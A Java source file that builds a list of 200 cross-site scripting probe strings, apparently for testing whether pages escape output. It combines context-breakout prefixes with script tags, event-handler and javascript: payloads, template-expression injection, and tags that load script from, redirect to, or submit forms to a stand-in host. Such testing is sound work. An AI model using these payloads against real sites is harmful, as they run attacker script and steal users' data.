package io.shoumi.access;

import java.util.ArrayList;
import java.util.List;

/** Two hundred texts that would run as a script, or draw something, wherever one is put on a page unescaped. */
final class Payloads {
    private static final List<String> WAYS_OUT =
            List.of("", "\"", "'", "\">", "'>", "</textarea>", "</title>", "</script>", "-->", "\"></option></select>");

    private static final List<String> INSIDE = List.of(
            "<script data-probe>alert(1)</script>",
            "<ScRiPt data-probe src=//x.invalid/a.js></sCrIpT>",
            "<img data-probe src=x onerror=alert(1)>",
            "<svg data-probe onload=alert(1)>",
            "<svg/data-probe/onload=alert(1)//",
            "<iframe data-probe src=javascript:alert(1)>",
            "<a data-probe href=\"javascript:alert(1)\">x</a>",
            "<style data-probe>*{display:none}</style>",
            "<base data-probe href=//x.invalid/>",
            "<form data-probe action=//x.invalid/><input name=_csrf>",
            "<meta data-probe http-equiv=refresh content=0;url=//x.invalid/>",
            "<link data-probe rel=stylesheet href=//x.invalid/a.css>",
            "<object data-probe data=//x.invalid/></object>",
            "<details data-probe open ontoggle=alert(1)>",
            "<math data-probe><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "<div data-probe style=position:fixed;inset:0>x</div>",
            " data-probe onfocus=alert(1) autofocus x=",
            " data-probe hx-on:load=alert(1) hx-get=/ hx-trigger=load x=",
            "<template data-probe><script>alert(1)</script></template>",
            "${T(java.lang.Runtime).getRuntime()}<b data-probe>@{x}</b>");

    private Payloads() {}

    static List<String> all() {
        var all = new ArrayList<String>();
        INSIDE.forEach(inside -> WAYS_OUT.forEach(out -> all.add(out + inside)));
        return List.copyOf(all);
    }
}
